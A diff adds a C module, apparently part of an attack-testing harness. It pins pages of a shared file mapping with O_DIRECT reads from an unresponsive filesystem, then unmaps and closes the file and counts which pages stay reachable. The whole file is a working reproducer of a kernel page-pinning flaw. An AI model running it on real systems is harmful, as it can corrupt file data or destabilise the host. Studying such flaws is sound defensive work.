@@ -1,0 +1,66 @@
+// pinned FILE SOURCE COUNT: has COUNT reads past the cache from SOURCE, whose filesystem does not answer, go to a shared mapping of FILE, which is then
+// unmapped, and closed for writing. The pages stay pinned, and each answered read makes them dirty, when nobody can write them back. After a line it
+// maps FILE again, by a file that it has had open for reading, and says how many pages can be touched.
+#include "attacker.h"
+#include <errno.h>
+#include <fcntl.h>
+#include <pthread.h>
+#include <setjmp.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <sys/mman.h>
+#include <unistd.h>
+
+enum { PAGE = 4096, PAGES = 16 };
+static sigjmp_buf back;
+static char *memory;
+static int source;
+
+static void caught(int number) { siglongjmp(back, number); }
+
+static void *read_source(void *unused) {
+    (void)unused;
+    (void)!pread(source, memory, PAGES * PAGE, 0);
+    return NULL;
+}
+
+int attack_pinned(int count, char **arguments) {
+    if (count != 3) return 2;
+    int kept = open(arguments[0], O_RDONLY | O_CLOEXEC);
+    int file = open(arguments[0], O_RDWR | O_CLOEXEC);
+    if (kept < 0 || file < 0) attack_failed(arguments[0]);
+    source = open(arguments[1], O_RDONLY | O_DIRECT | O_CLOEXEC);
+    if (source < 0) attack_failed(arguments[1]);
+    memory = mmap(NULL, PAGES * PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
+    if (memory == MAP_FAILED) attack_failed("mmap");
+    for (int page = 0; page < PAGES; page++) (void)((volatile char *)memory)[page * PAGE];
+    pthread_attr_t small;
+    pthread_attr_init(&small);
+    pthread_attr_setstacksize(&small, 65536);
+    for (int number = 0; number < atoi(arguments[2]); number++) {
+        pthread_t thread;
+        if ((errno = pthread_create(&thread, &small, read_source, NULL))) attack_failed("pthread_create");
+    }
+    // The reads pin their pages before they are sent; whoever started this looks for the requests.
+    puts("reading");
+    fflush(stdout);
+    if (!attack_wait()) return 0;
+    munmap(memory, PAGES * PAGE);
+    close(file);
+    attack_ready();
+    signal(SIGBUS, caught);
+    while (attack_wait()) {
+        volatile int found = 0;
+        volatile char *again = mmap(NULL, PAGES * PAGE, PROT_READ, MAP_SHARED, kept, 0);
+        if (again != MAP_FAILED)
+            for (volatile int page = 0; page < PAGES; page++)
+                if (!sigsetjmp(back, 1)) {
+                    (void)again[page * PAGE];
+                    found++;
+                }
+        printf("%d pages\n", found);
+        fflush(stdout);
+    }
+    return 0;
+}
